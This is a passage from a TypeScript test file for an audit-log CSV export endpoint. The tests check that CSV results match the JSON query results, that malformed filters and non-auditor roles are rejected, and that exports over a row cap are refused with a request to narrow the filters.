      expect(res.statusCode, res.body).toBe(200);
      return readCsv(res.body)
        .records.slice(1)
        .map((row) => row[0]);
    };
    const jsonPositions = async (query: string) =>
      (
        (await f.ledger.get(`/v1/audit?limit=1000&${query}`, f.tokens.admin)).json()
          .entries as Json[]
      ).map((e) => e.position);
    for (const query of [
      `potId=${f.potId}`,
      'agencyId=essex-police',
      'actor=carol',
      'from=2000-01-01&to=2099-12-31',
      'cursor=3',
      'to=2000-01-01',
    ]) {
      expect(await csvPositions(query), query).toEqual(await jsonPositions(query));
    }
    for (const query of [
      'potId=not-a-ulid',
      'from=2025-02-30',
      'to=yesterday',
      'cursor=-1',
      `actor=${'a'.repeat(201)}`,
      'minPosition=abc',
    ]) {
      expectProblem(
        await f.ledger.get(`/v1/audit/export.csv?${query}`, f.tokens.admin),
        400,
        'VALIDATION_FAILED',
      );
    }
  });

  it('is for auditors and admins only', async () => {
    expect((await f.ledger.get('/v1/audit/export.csv', f.tokens.auditor)).statusCode).toBe(200);
    expect((await f.ledger.get('/v1/audit/export.csv', f.tokens.admin)).statusCode).toBe(200);
    expectProblem(await f.ledger.get('/v1/audit/export.csv', f.tokens.reporter), 403, 'FORBIDDEN');
    expectProblem(await f.ledger.get('/v1/audit/export.csv', f.tokens.cc), 403, 'FORBIDDEN');
    expectProblem(await f.ledger.get('/v1/audit/export.csv', null), 401, 'UNAUTHENTICATED');
  });

  it('refuses (VALIDATION_FAILED) an export of more rows than the cap, asking for narrower filters', async () => {
    // The real cap (MAX_CSV_EXPORT_ROWS) is 20,000 entries; the same code with a small cap.
    const state = f.ledger.books.state.auditTrail;
    const read = auditEventReader(f.ledger.store);
    const all = await auditEntriesForExport(state, {}, read);
    expect(all.map((e) => e.position)).toEqual(
      Array.from({ length: state.size }, (_, i) => columnAt(state.positions, i).toString()),
    );
    expect(await auditEntriesForExport(state, {}, read, all.length)).toHaveLength(all.length);
    let refusal: unknown;
    try {
      await auditEntriesForExport(state, {}, read, all.length - 1);
    } catch (error) {
      refusal = error;
    }
    expect(refusal).toBeInstanceOf(HttpProblem);
    expect((refusal as HttpProblem).problem).toMatchObject({
      status: 400,
      code: 'VALIDATION_FAILED',
    });
    expect((refusal as HttpProblem).problem.detail).toMatch(/narrow/);
    // A filter that fits under the cap is answered.
    const potOnly = await auditEntriesForExport(state, { potId: f.potId }, read, all.length - 1);
    expect(potOnly.length).toBeGreaterThan(0);
    expect(potOnly.every((e) => e.potId === f.potId)).toBe(true);
  });
});
